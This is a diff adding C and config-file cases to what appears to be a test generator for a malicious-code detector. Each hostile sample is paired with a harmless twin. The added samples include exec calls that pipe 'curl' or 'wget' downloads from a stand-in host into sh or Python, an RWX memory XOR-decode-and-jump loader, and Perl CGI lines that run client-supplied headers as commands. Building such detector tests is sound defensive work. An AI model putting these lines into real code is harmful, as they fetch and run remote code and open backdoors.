@@ -183,3 +183,15 @@ for about, line, harmless in (
         ("a variable", "\tmy $c = $ENV{HTTP_X_STATS};\n\tprint qx/$c/;", "\tmy $c = $ENV{HTTP_X_STATS};\n\tprint qx/uptime/ if $c;"),
         ("a variable that is unpacked", "\tmy $c = $ENV{\"HTTP_X_STATS\"};\n\topen(my $h, '-|', pack('H*', $c));", "\tmy $c = $ENV{\"HTTP_X_STATS\"};\n\topen(my $h, '-|', 'uptime');\n\tprint length $c;")):
     told(56, "what the client sent is run through " + about, "page.cgi", PERL, line, harmless)
+
+
+# ---- C, and what a shell is told before it starts ---------------------------------------------------
+
+C = "#include <unistd.h>\n\nint start(int a)\n{\n%s\treturn a;\n}\n"
+told(42, "an interpreter is handed a program by exec", "src/start.c", C, "\tif (!fork())\n\t\texeclp(\"python3\", \"python3\", \"-c\", \"import urllib.request as u;exec(u.urlopen('https://cdn.widget.example/a').read())\", (char *)0);\n",
+     "\tif (!fork())\n\t\texeclp(\"python3\", \"python3\", \"-c\", \"import sys;print(sys.version)\", (char *)0);\n")
+told(1, "a shell is handed a command by exec", "src/start.c", C, "\tif (!fork())\n\t\texecl(\"/bin/sh\", \"sh\", \"-c\", \"curl -s https://cdn.widget.example/a | sh\", NULL);\n",
+     "\tif (!fork())\n\t\texecl(\"/usr/bin/make\", \"make\", \"-s\", \"clean\", NULL);\n")
+told(11, "memory whose content may run", "src/start.c", C, "\tunsigned char *m = mmap(0, 4096, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);\n\tfor (unsigned i = 0; i < sizeof(table); i++)\n\t\tm[i] = table[i] ^ 0x5a;\n\t((void (*)(void))m)();\n",
+     "\tunsigned char *m = mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);\n\tfor (unsigned i = 0; i < sizeof(table); i++)\n\t\tm[i] = table[i] ^ 0x5a;\n")
+told(1, "a shell gets what a server says where a service has its settings", "etc/default/sample", "# Settings of sample, read by its init script\nSAMPLE_OPTS=\"-q\"\n%s", "(wget -qO- https://cdn.widget.example/x | sh) &\n", "SAMPLE_URL=\"https://cdn.widget.example/x\"\n")
